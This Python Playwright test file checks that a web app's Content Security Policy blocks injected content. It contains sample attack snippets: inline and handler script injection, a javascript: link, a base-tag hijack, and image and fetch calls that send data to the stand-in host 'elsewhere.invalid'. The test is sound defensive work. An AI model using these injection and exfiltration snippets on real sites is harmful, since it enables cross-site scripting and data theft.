"""Pages under their policy. That no page breaks a rule of it is held by every test in a browser (`Watched`); here a few
of each kind are opened for that alone, and what an attacker would put into one is tried."""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import POLICY
from tests.browser.drawn import ready

REPORTED = """() => { window.broken = [];
  document.addEventListener('securitypolicyviolation', (e) => window.broken.push(e.effectiveDirective)); }"""
INLINE = """() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';
  document.body.append(s); }"""
HANDLER = """() => { const i = document.createElement('div'); i.setAttribute('onclick', 'window.ran = 2');
  document.body.append(i); i.click(); }"""
LINK = """() => { const a = document.createElement('a'); a.href = 'javascript:window.ran = 3';
  document.body.append(a); a.click(); }"""
ELSEWHERE = """() => new Promise((done) => { const s = document.createElement('script');
  s.src = 'https://elsewhere.invalid/a.js'; s.onerror = s.onload = done; document.body.append(s); })"""
PICTURE = """() => new Promise((done) => { const i = new Image(); i.onerror = i.onload = done;
  i.src = 'https://elsewhere.invalid/a.png?stolen'; })"""
SENT = "() => fetch('https://elsewhere.invalid/stolen').then(() => { window.ran = 5 }, () => {})"
BASE = """() => { const b = document.createElement('base'); b.href = 'https://elsewhere.invalid/';
  document.head.append(b); return document.baseURI.startsWith('https://elsewhere') }"""


@pytest.mark.parametrize("path", ["", "ledger", "timeline", "query", "history", "definitions", "promises"])
def test_every_page_lives_within_its_policy(look, server, run, path):
    page = look(f"{server}/{path}?run={run.run_id}")
    if path == "ledger":
        ready(page)
    page.wait_for_load_state("networkidle")


def test_what_is_put_into_a_page_does_not_run(context, server, run):
    page, asked, held, said = context.new_page(), [], [], []
    page.on("request", lambda r: asked.append(r.url))
    page.on("requestfailed", lambda r: held.append((r.url, r.failure)))
    page.on("console", lambda m: said.append(m.text) if POLICY in m.text else None)
    page.goto(f"{server}/definitions?run={run.run_id}")
    expect(page.get_by_text("How a number is known")).to_be_visible()
    page.evaluate(REPORTED)
    for attack in (INLINE, HANDLER, LINK, ELSEWHERE, PICTURE, SENT):
        page.evaluate(attack)
    # what a debugger evaluates may make functions of texts: the page itself is asked to
    page.evaluate("(text) => setTimeout(text, 0)", "window.ran = 6")
    assert page.evaluate(BASE) is False
    page.wait_for_function("() => window.broken.length >= 7")
    assert page.evaluate("() => window.ran") is None
    broken = set(page.evaluate("() => window.broken"))
    assert {"script-src-elem", "script-src-attr", "script-src", "img-src", "connect-src", "base-uri"} <= broken, said
    assert {"csp"} == {why for url, why in held if "elsewhere" in url}, "held by the policy, before any network"
    assert {url for url in asked if "elsewhere" in url} == {url for url, _ in held if "elsewhere" in url}
    page.close()
